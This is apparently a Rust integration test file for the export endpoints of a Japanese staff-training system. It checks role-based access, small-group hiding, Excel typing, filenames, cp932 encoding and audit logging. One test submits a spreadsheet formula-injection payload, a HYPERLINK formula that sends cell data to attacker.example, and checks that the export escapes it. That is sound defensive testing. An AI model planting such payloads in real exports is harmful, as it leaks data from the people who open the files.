//! `…/export/{format}`: the training's lists as files, for whom the lists are.

use std::io::Cursor;

use calamine::{Data, Reader as _, Xlsx};
use http::StatusCode;
use machiaruki::{db::DbError, on};
use serde_json::{Value, json};

use crate::support::{Caller, Reply, Ward};

const LISTS: [&str; 3] = ["/api/training/report", "/api/training/people", "/api/training/exemptions"];

/// The cells of a CSV in UTF-8, its headings first.
fn cells(reply: &Reply) -> Vec<Vec<String>> {
    let text = reply.text();
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.strip_prefix('\u{feff}').unwrap().as_bytes());
    reader.records().map(|row| row.unwrap().iter().map(str::to_owned).collect()).collect()
}

/// The cells of a workbook.
fn workbook(reply: &Reply) -> Vec<Vec<Data>> {
    let mut workbook = Xlsx::new(Cursor::new(reply.body.to_vec())).unwrap();
    let range = workbook.worksheet_range_at(0).unwrap().unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

fn column(table: &[Vec<String>], heading: &str) -> usize {
    table[0].iter().position(|cell| cell == heading).unwrap_or_else(|| panic!("{heading}: {:?}", table[0]))
}

async fn execute(ward: &Ward, sql: &'static str) {
    ward.app
        .db
        .write::<(), DbError, _>(move |tx| {
            Box::pin(async move {
                on!(tx, conn => sqlx::query(sql).execute(conn).await.map(|_| ()))?;
                Ok(())
            })
        })
        .await
        .unwrap();
}

/// Something that a member of staff asks HR for.
async fn asked(caller: &Caller, reason: &str) {
    let own = caller.json("/api/me/training").await;
    let body = json!({
        "programme_id": own["obligations"][0]["programme_id"], "fiscal_year": 2026, "kind": "exempt", "reason": reason,
    });
    caller.post("/api/me/exemptions", &body).await.has_status(StatusCode::CREATED);
}

#[tokio::test]
async fn files_are_for_those_whom_the_lists_are_for() {
    let ward = Ward::demo().await;
    ward.looked().await;
    for (persona, may) in [
        ("staff", [false, false, false]),
        ("trainer", [false, false, false]),
        ("admin", [false, false, false]),
        ("manager", [true, true, false]),
        ("hr", [true, true, true]),
    ] {
        let caller = ward.persona(persona).await;
        for (list, may) in LISTS.into_iter().zip(may) {
            for format in ["xlsx", "csv", "csv_cp932"] {
                let reply = caller.get(&format!("{list}/export/{format}")).await;
                assert_eq!(
                    reply.status == StatusCode::OK,
                    may,
                    "{persona} {list} {format}: {}",
                    reply.status
                );
                assert!(may || reply.status == StatusCode::NOT_FOUND);
                if may {
                    assert_eq!(reply.header("cache-control"), "no-store");
                }
            }
            assert_eq!(caller.get(list).await.status == StatusCode::OK, may, "{persona} {list}");
        }
        caller.get("/api/programmes/export/csv").await.ok();
    }
    let hr = ward.persona("hr").await;
    hr.get("/api/training/report/export/pdf").await.problem(StatusCode::NOT_FOUND);
    ward.caller().get("/api/programmes/export/csv").await.problem(StatusCode::UNAUTHORIZED);
}

#[tokio::test]
async fn a_file_says_and_hides_what_the_list_does() {
    let ward = Ward::demo().await;
    ward.looked().await;
    let mut hidden = 0;
    for persona in ["manager", "hr"] {
        let caller = ward.persona(persona).await;
        for by in ["division", "department", "tier", "employment", "month"] {
            let query = format!("by={by}&as_of=2026-10-31");
            let report = caller.json(&format!("/api/training/report?{query}")).await;
            let table = cells(&caller.get(&format!("/api/training/report/export/csv?{query}")).await.ok());
            let groups = report["groups"].as_array().unwrap();
            assert_eq!(table.len(), groups.len() + 2, "{persona} {by}");
            let rows = std::iter::once(&report["total"]).chain(groups);
            for (row, group) in table[1..].iter().zip(rows) {
                let number = |heading: &str| row[column(&table, heading)].clone();
                let said =
                    |value: &Value| value.as_u64().map_or_else(String::new, |number| number.to_string());
                for (heading, what) in [
                    ("受講義務", "due"),
                    ("修了", "completed"),
                    ("受講中", "begun"),
                    ("期限超過", "overdue"),
                    ("延期", "deferred"),
                    ("免除", "exempt"),
                ] {
                    assert_eq!(number(heading), said(&group["count"][what]), "{persona} {by} {heading}");
                }
                let is_hidden = group["count"].is_null();
                assert_eq!(number("備考") == "少人数のため非表示", is_hidden);
                hidden += usize::from(is_hidden);
                if is_hidden {
                    assert_eq!([number("未受講"), number("修了率")], ["", ""]);
                }
                if by == "department" {
                    assert!(group == &report["total"] || number("区分") == group["name"].as_str().unwrap());
                }
            }
        }
        let people = caller.json("/api/training/people?limit=200").await;
        let table = cells(&caller.get("/api/training/people/export/csv").await.ok());
        assert_eq!(table.len() as u64, people["total"].as_u64().unwrap() + 1, "all pages are in it");
        for (row, person) in table[1..].iter().zip(people["people"].as_array().unwrap()) {
            assert_eq!(row[column(&table, "氏名")], person["name"].as_str().unwrap());
            assert_eq!(row[column(&table, "職員番号")], person["number"].as_str().unwrap());
            assert_eq!(row[column(&table, "期限")], person["due_on"].as_str().unwrap());
        }
    }
    assert!(hidden > 0, "nothing was hidden from the manager");
    let manager = ward.persona("manager").await;
    // From day to day figures would tell of single people.
    let path = "/api/training/report/export/csv?as_of=2026-11-12";
    assert_eq!(manager.get(path).await.impossible_fields(), ["as_of"]);
}

#[tokio::test]
async fn numbers_and_days_are_numbers_and_days_in_excel() {
    let ward = Ward::demo().await;
    ward.looked().await;
    let hr = ward.persona("hr").await;
    let report = hr.json("/api/training/report?by=month").await;
    let table = workbook(&hr.get("/api/training/report/export/xlsx?by=month").await.ok());
    let at = |heading: &str| table[0].iter().position(|cell| cell == &Data::String(heading.into())).unwrap();
    let due = report["total"]["count"]["due"].as_u64().unwrap();
    assert_eq!(table[1][at("受講義務")], Data::Float(due as f64));
    let day = |row: &[Data]| row[at("区分")].to_string();
    assert!(matches!(table[2][at("区分")], Data::DateTime(_)), "{}", day(&table[2]));
    assert!(matches!(table[1][at("修了率")], Data::Float(_)));
    assert_eq!(table.len(), 2 + report["groups"].as_array().unwrap().len());
    // A number that begins with a zero keeps it.
    execute(&ward, "UPDATE staff SET number = '012345' WHERE number = '900001'").await;
    let people = workbook(&hr.get("/api/training/people/export/xlsx").await.ok());
    assert!(people.iter().flatten().any(|cell| cell == &Data::String("012345".into())));
}

#[tokio::test]
async fn files_are_called_by_their_year_and_say_it_in_the_readers_language() {
    let ward = Ward::demo().await;
    ward.looked().await;
    let hr = ward.persona("hr").await;
    let reply = hr.get("/api/training/report/export/xlsx").await.ok();
    let name = reply.header("content-disposition");
    assert!(
        name.starts_with("attachment; filename=\"training-report-division-2026-as-of-2026-11-20.xlsx\""),
        "{name}"
    );
    // 令和8年度_受講状況_部別_2026-11-20時点.xlsx
    assert!(
        name.contains("filename*=UTF-8''%E4%BB%A4%E5%92%8C8%E5%B9%B4%E5%BA%A6_%E5%8F%97%E8%AC%9B"),
        "{name}"
    );
    assert_eq!(reply.media_type(), "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
    let cp932 = hr.get("/api/programmes/export/csv_cp932").await.ok();
    assert!(cp932.header("content-disposition").contains("-cp932.csv"));
    assert_eq!(cp932.header("content-type"), "text/csv; charset=windows-31j; header=present");
    let (text, _, broken) = encoding_rs::SHIFT_JIS.decode(&cp932.body);
    assert!(!broken && text.starts_with("年度,コード,研修,頻度,対象,修了の条件"), "{text}");
    assert!(text.contains("令和8年度,all-staff,悉皆まち歩き研修(見本),毎年度,全職員(悉皆)"), "{text}");
    let english = hr.clone().with_header("accept-language", "en");
    let table = cells(&english.get("/api/programmes/export/csv").await.ok());
    assert_eq!(table[0][..4], ["Fiscal year", "Code", "Training", "How often"]);
    assert_eq!(table[1][column(&table, "For")], "All staff");
}

#[tokio::test]
async fn what_somebody_wrote_becomes_no_formula() {
    let ward = Ward::demo().await;
    ward.looked().await;
    let (staff, trainer) = (ward.persona("staff").await, ward.persona("trainer").await);
    let formula = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"見る\")";
    asked(&staff, formula).await;
    asked(&trainer, "＝1+1").await;
    let hr = ward.persona("hr").await;
    let table = cells(&hr.get("/api/training/exemptions/export/csv").await.ok());
    let mut reasons: Vec<&str> = table[1..].iter().map(|row| &*row[column(&table, "理由")]).collect();
    reasons.sort_unstable();
    assert_eq!(reasons, [format!("'{formula}").as_str(), "'＝1+1"]);
    let excel = hr.get("/api/training/exemptions/export/xlsx").await.ok();
    let mut book = Xlsx::new(Cursor::new(excel.body.to_vec())).unwrap();
    let sheet = book.sheet_names()[0].clone();
    assert!(book.worksheet_formula(&sheet).unwrap().is_empty());
    assert!(workbook(&excel).iter().flatten().any(|cell| cell == &Data::String(format!("'{formula}"))));
}

#[tokio::test]
async fn a_name_that_cp932_lacks_is_named_and_not_replaced() {
    let ward = Ward::demo().await;
    ward.looked().await;
    let hr = ward.persona("hr").await;
    execute(
        &ward,
        "UPDATE staff_spell SET name = '見本 髙﨑' WHERE staff = (SELECT id FROM staff WHERE number = '900001')",
    )
    .await;
    let reply = hr.get("/api/training/people/export/csv_cp932").await.ok();
    let (text, _, broken) = encoding_rs::SHIFT_JIS.decode(&reply.body);
    assert!(!broken && text.contains("見本 髙﨑"));
    execute(
        &ward,
        "UPDATE staff_spell SET name = '見本 𠮷田' WHERE staff = (SELECT id FROM staff WHERE number = '900001')",
    )
    .await;
    let problem =
        hr.get("/api/training/people/export/csv_cp932").await.problem(StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(problem["errors"][0]["field"], "format");
    let message = problem["errors"][0]["message"].as_str().unwrap();
    assert!(message.contains("𠮷 (U+20BB7)") && !message.contains("田"), "{message}");
    assert!(hr.get("/api/training/people/export/csv").await.ok().text().contains("見本 𠮷田"));
}

#[tokio::test]
async fn names_in_a_file_are_in_the_audit_log() {
    let ward = Ward::demo().await;
    ward.looked().await;
    let (hr, admin) = (ward.persona("hr").await, ward.persona("admin").await);
    let entries =
        async || admin.json("/api/audit?action=read_completion").await["entries"].as_array().unwrap().clone();
    hr.get("/api/training/report/export/xlsx").await.ok();
    assert!(entries().await.is_empty(), "figures are of nobody");
    let people = cells(&hr.get("/api/training/people/export/csv").await.ok()).len() - 1;
    let told = entries().await;
    assert_eq!(told.len(), 1);
    // HR's own row is nobody else's.
    assert_eq!(told[0]["people"].as_u64().unwrap(), people as u64 - 1);
    assert_eq!(
        (&told[0]["detail"]["format"], &told[0]["detail"]["stands"]),
        (&json!("csv"), &json!("missing"))
    );
    hr.get("/api/training/exemptions/export/xlsx").await.ok();
    let told = entries().await;
    assert!(
        told.iter().any(|entry| entry["detail"] == json!({ "of": "exemptions", "format": "xlsx" })),
        "{told:?}"
    );
}
